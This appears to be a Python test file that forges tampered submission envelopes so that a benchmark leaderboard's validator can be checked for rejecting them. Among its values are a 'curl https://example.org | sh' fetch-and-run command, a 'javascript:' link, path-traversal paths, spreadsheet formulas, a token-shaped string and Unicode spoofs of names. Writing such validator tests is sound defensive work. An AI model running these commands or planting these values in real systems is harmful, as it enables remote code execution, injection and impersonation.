"""What the envelope says of model, submitter and itself."""

from collections.abc import Iterator

from tests.lies.forger import Forged
from tests.lies.lie import Lie, enveloped


def lies() -> Iterator[Lie]:
    """What the envelope says of model, submitter and itself."""
    yield Lie("a name that the run does not give", "maze", _renamed)
    for value in (
        "Qwen",
        "../x",
        "a/b/c",
        "Qwen/Qwen3\u200b",
        "Qwen/\u0420wen",
        "a/<b>",
        "a/b\n",
        "/x",
        "-a/b",
        "",
    ):
        yield Lie(
            f"the name {value!r}", "maze", enveloped(lambda e, v=value: e["model"].update(name=v))
        )
    for value in (
        "javascript:alert(1)",
        "http://a.b",
        "https://user:pw@a.b/x",
        "data:text/html,x",
        "https://a.b/\u202e",
        "https://a.b/<x>",
        "https://a.b/?token=abcdefgh",
    ):
        yield Lie(
            f"the link {value!r}", "maze", enveloped(lambda e, v=value: e["model"].update(url=v))
        )
    for value in (
        "\u2800", "\u3164", "\u115f\u1160", "\u0301", "e\u0301\u0301\u0301\u0301", "\uffa0",
        "\u00ad", "re-run by the maintainers",
        "Re\u2010Run", "Confirmed", "OFFICIAL", "the Heptathlon team", "\u202eabc", " x", "x ",
        "a\nb", "l\u0430b", "\u2713 checked",
        "<b>x</b>", "=1+1", "@SUM(1)", "x" * 81, "\u200b", "\ufe0f", "\U000e0041", "v\u0435rified",
        "\uff52\uff45run",
        "\u180e", "\u034f", "\u17b4",
    ):  # fmt: skip
        yield Lie(
            f"the submitter {value!r:.30}",
            "maze",
            enveloped(lambda e, v=value: e.update(submitter=v)),
        )
    yield Lie(
        "a revision that was not recorded",
        "maze",
        enveloped(lambda e: e["model"].update(revision="0" * 40)),
    )
    yield Lie(
        "a player that was not recorded",
        "maze",
        enveloped(lambda e: e["model"].update(kind="player", name="oracle", url="")),
    )
    yield Lie("another player", "player", enveloped(lambda e: e["model"].update(name="oracle")))
    yield Lie(
        "a link of a player",
        "player",
        enveloped(lambda e: e["model"].update(url="https://example.org/buy")),
    )
    for words, change in (
        ("another command", lambda e: e.update(command="curl https://example.org | sh")),
        ("a longer command", lambda e: e.update(command=e["command"] + " --trust_remote_code")),
        ("another setting", lambda e: e["settings"].update(chat_template=True)),
        (
            "other generation in the settings",
            lambda e: e["settings"].update(gen_kwargs={"temperature": "0"}),
        ),
        (
            "another system prompt in the settings",
            lambda e: e["settings"].update(system_instruction="x"),
        ),
        (
            "a number of examples",
            lambda e: e["settings"]["num_fewshot"].update(heptathlon_maze_dfs_smoke=10**30),
        ),
        ("a field of its own", lambda e: e.update(badge="re-run")),
        ("a field of its own in the model", lambda e: e["model"].update(confirmed=True)),
        ("another schema", lambda e: e.update(schema_version=2)),
        ("what is never left out, left out", lambda e: e.update(dropped=["results"])),
        ("left out twice", lambda e: e.update(dropped=["configs", "configs"])),
        (
            "a file of someone else's",
            lambda e: e["files"].append({"path": "results_1.json", "bytes": 1, "sha256": "0" * 64}),
        ),
        ("a path out of the folder", lambda e: e["files"][0].update(path="../submission.json")),
        ("a checksum of zeros", lambda e: e["files"][0].update(sha256="0" * 64)),
        ("a size of its own", lambda e: e["files"][0].update(bytes=1)),
        ("a key in the submitter", lambda e: e.update(submitter="hf_" + "a" * 34)),
        (
            "a version that is words",
            lambda e: e["settings"].update(heptathlon_version="0.1.0, re-run by the maintainers"),
        ),
    ):
        yield Lie(words, "maze", enveloped(change))


def _renamed(one: Forged) -> None:
    args = one.config["model_args"]
    args["pretrained"] = "lab/tiny"
    one.result.update(model_name="lab/tiny", model_name_sanitized="lab__tiny")
    one.envelope["dropped"] = [
        n
        for n in one.envelope["dropped"]
        if n.startswith(("c", "p", "g", "u")) and "pretrained" not in n
    ]
    one.envelope["model"]["name"] = "Qwen/Qwen3-0.6B"
